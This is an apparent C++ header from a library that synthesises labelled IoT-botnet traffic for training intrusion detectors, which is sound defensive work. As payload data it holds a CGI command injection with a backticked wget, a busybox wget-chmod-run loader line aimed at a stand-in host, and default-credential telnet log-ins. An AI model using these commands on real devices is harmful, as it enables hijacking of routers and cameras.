// SPDX-License-Identifier: MIT
// Bots on routers, cameras and recorders: the search for telnet and web log-ins all over the Internet, default
// passwords, the loader that follows, the exploit of a web interface, the keep-alive to a server. What they flood with
// is in attack_flood.hpp. Listed in scenario.hpp.
#pragma once

#include <algorithm>
#include <array>
#include <cstdint>
#include <string>

#include <mldefender/forge/synth/attack_plan.hpp>

namespace mldefender {
inline namespace v0 {
namespace forge {
namespace detail::attack {

/// What is tried where such a bot finds an open port.
struct device_log_in {
    /// Telnet: a name and a password from a short list, rarely right.
    static void telnet(stage& s, tcp_session& t, int tries) {
        rng& r = s.random;
        t.down(blob{}.be24(0xfffd18).be24(0xfffd20)).up(blob{}.be24(0xfffc18).be24(0xfffc20));
        for (; tries > 0 && !t.over(); --tries) {
            t.down(blob{"login: "}).up(blob{"root\r\n"}).down(blob{"root\r\nPassword: "});
            t.up(blob{}.random_text(r, 4 + r.below(5), lower_digits).text("\r\n"));
            t.think(r.log_between(50 * units::ms, 3 * units::second));
            if (tries > 1) t.down(blob{"\r\nLogin incorrect\r\n"});
        }
    }
    /// A request that makes a web interface run a command.
    static void web(stage& s, tcp_session& t) {
        rng& r = s.random;
        const address_text from = to_text(s.net.public_v4(r));
        blob path{"/"};
        path.text(world::word(r))
            .u8('/')
            .text(world::word(r))
            .text(".cgi?cmd=`wget%20http://")
            .text(from.view())
            .text("/a`");
        t.up(payload::http_ask(r, {.method = r.chance(0.5) ? "POST" : "GET",
                                   .path = path.characters(),
                                   .host = from.view(),
                                   .agent = r.pick(payload::agents),
                                   .body = 0,
                                   .keep_alive = false,
                                   .posed = true}));
        const int status = r.chance(0.3) ? 200 : r.chance(0.5) ? 401 : 404;
        t.down(payload::http_reply(r, status, r.log_between(20, 800)));
    }
    /// Whatever the port is used for.
    static void play(stage& s, tcp_session& t, std::uint16_t port) {
        rng& r = s.random;
        t.open();
        if (port == 22 || port == 2222) {
            const std::string_view own = payload::ssh_clients[5 + r.below(4)];
            start_ssh(s, t, own, payload::ssh_clients[r.below(4)]);
            ssh_password(s, t, false);
        } else if (port == 23 || port == 2323) {
            telnet(s, t, r.pick_int(1, 4));
            if (r.chance(0.2)) load(s, t);
        } else if (port == 5555) {
            t.up(message{blob{"CNXN"}.le32(0x0100'0000).le32(4096).le32(7), r.between(24, 60)})
                .down(message{blob{"CNXN"}.le32(0x0100'0000).le32(4096).le32(20), 60, body_kind::text});
        } else {
            web(s, t);
        }
        t.end();
    }
    /// Commands that fetch and start a program.
    static void load(stage& s, tcp_session& t) {
        rng& r = s.random;
        t.down(blob{"\r\n$ "});
        for (const std::string_view line :
             {std::string_view{"enable\r\n"}, std::string_view{"system\r\n"}, std::string_view{"shell\r\n"},
              std::string_view{"sh\r\n"}, std::string_view{"cat /proc/mounts; /bin/busybox X\r\n"}})
            t.up(blob{line}).down(blob{line}.text("X: applet not found\r\n# "));
        if (r.chance(0.5)) {  // no loader at hand: the program is typed
            for (int n = r.pick_int(5, 60); n > 0 && !t.over(); --n)
                t.up(blob{"echo -ne \""}.random_text(r, 200, hex_digits).text("\" >> d\r\n")).down(blob{"# "});
        } else {
            t.up(blob{"/bin/busybox wget http://host/a -O - > d; chmod 777 d; ./d\r\n"}).down(blob{"# "});
        }
    }
};

/// Ports such bots look for, one set a family.
inline constexpr std::array<std::array<std::uint16_t, 4>, 6> device_ports{{{23, 23, 23, 2323},
                                                                           {23, 2323, 8080, 80},
                                                                           {37215, 37215, 52869, 23},
                                                                           {5555, 5555, 5555, 5555},
                                                                           {22, 22, 2222, 22},
                                                                           {8081, 81, 8443, 8080}}};

struct device_bot {
    static constexpr std::string_view name = "device_bot";
    static constexpr std::string_view about =
        "a device bot: telnet, shell and web ports tried all over the Internet, log-ins where one opens, a keep-alive "
        "to its server";
    static constexpr attack_class label = attack_class::botnet;
    static constexpr int weight = 12;
    static void emit(stage& s) {
        rng& r = s.random;
        host& bot = s.net.local(r);
        const auto& ports = r.pick(device_ports);
        const std::uint16_t source = any_port(r);
        const bool raw = r.chance(0.5);
        const pace rhythm = pace::poisson(r.log_between(500 * units::us, 3 * units::second));
        repeat(s, {s.some_time(), s.scaled(r.log_between(20, 2500)), rhythm}, [&](std::int64_t when) {
            host target = s.net.draw_outside(r);
            target.has_v6 = false;
            const std::uint16_t port = r.pick(ports);
            const std::uint32_t luck = r.below(100);
            const bool first = raw && luck < 95;  // the log-in is a connection of its own
            tcp_session t{s, {&bot, &target, port, when, first ? source : std::uint16_t{0}}};
            if (luck < 88) return t.unanswered(raw ? 0 : r.pick_int(0, 2));
            if (luck < 95) return t.refused();
            device_log_in::play(s, t, port);
        });
        keep_alive(s, bot);
    }

private:
    static void keep_alive(stage& s, host& bot) {
        rng& r = s.random;
        tcp_session t{s, {&bot, &s.net.new_outside(r), any_port(r, 23), s.out.begin_ns() - units::second}};
        r.chance(0.6) ? t.open() : t.midway();
        const pace beat = pace::steady(60 * units::second / (1 + r.below(6)), 5);
        for (int n = 0; n < 200 && !t.over(); ++n) t.up(blob{}.be16(0)).down(blob{}.be16(0)).think(beat.next(r));
    }
};

struct device_loading {
    static constexpr std::string_view name = "device_loading";
    static constexpr std::string_view about =
        "a device of this network taken over: log-ins by strangers, the loader's commands, a program fetched over HTTP "
        "or TFTP, the first word to its server";
    static constexpr attack_class label = attack_class::botnet;
    static constexpr int weight = 7;
    static void emit(stage& s) {
        rng& r = s.random;
        host& device = s.net.local(r);
        const auto& ports = r.pick(device_ports);
        const pace rhythm = pace::poisson(r.log_between(units::second, 40 * units::second));
        const std::int64_t ready = repeat(s, {s.some_time(), r.pick_int(1, 15), rhythm}, [&](std::int64_t when) {
            const std::uint16_t port = r.pick(ports);
            tcp_session t{s, {&s.net.new_outside(r), &device, port, when}};
            if (r.chance(0.2)) return t.refused();
            device_log_in::play(s, t, port);
        });
        host& loader = s.net.new_outside(r);
        tcp_session in{s, {&loader, &device, 23, ready}};
        device_log_in::telnet(s, in.open(), 1);
        device_log_in::load(s, in);
        const std::int64_t when = in.now();
        in.end();
        r.chance(0.7) ? over_http(s, device, loader, when) : over_tftp(s, device, loader, when);
        tcp_session first{s,
                          {&device, &s.net.new_outside(r), any_port(r, 23), when + r.between(2, 20) * units::second}};
        first.open().up(blob{}.be32(1).u8(4).text("arm7"));
        while (!first.over()) first.think(r.around(60 * units::second, 5)).up(blob{}.be16(0)).down(blob{}.be16(0));
    }

private:
    static void over_http(stage& s, host& device, host& loader, std::int64_t when) {
        rng& r = s.random;
        const address_text numeric = to_text(loader.v4);
        tcp_session t{s, {&device, &loader, 80, when + r.log_between(units::ms, units::second)}};
        t.open().up(payload::http_ask(
            r, {.path = "/bins/a.arm7", .host = numeric.view(), .agent = "Wget", .keep_alive = false}));
        t.down(payload::http_reply(r, 200, r.log_between(30'000, 300'000), "application/octet-stream")).end();
    }
    static void over_tftp(stage& s, host& device, host& loader, std::int64_t when) {
        rng& r = s.random;
        udp_session ask{s, {&device, &loader, 69, when}};
        ask.up(message{blob{}.be16(1).text("a.arm7").u8(0).text("octet").u8(0)});
        udp_session t{s, {&device, &loader, any_port(r, 30000), ask.now() + units::ms, ask.client_port()}};
        const int blocks = r.pick_int(40, 200);
        for (int n = 1; n <= blocks && !t.over(); ++n)
            t.down(message{blob{}.be16(3).be16(static_cast<std::uint64_t>(n)), n == blocks ? 300 : 516})
                .up(message{blob{}.be16(4).be16(static_cast<std::uint64_t>(n))});
    }
};

}  // namespace detail::attack
}  // namespace forge
}  // namespace v0
}  // namespace mldefender
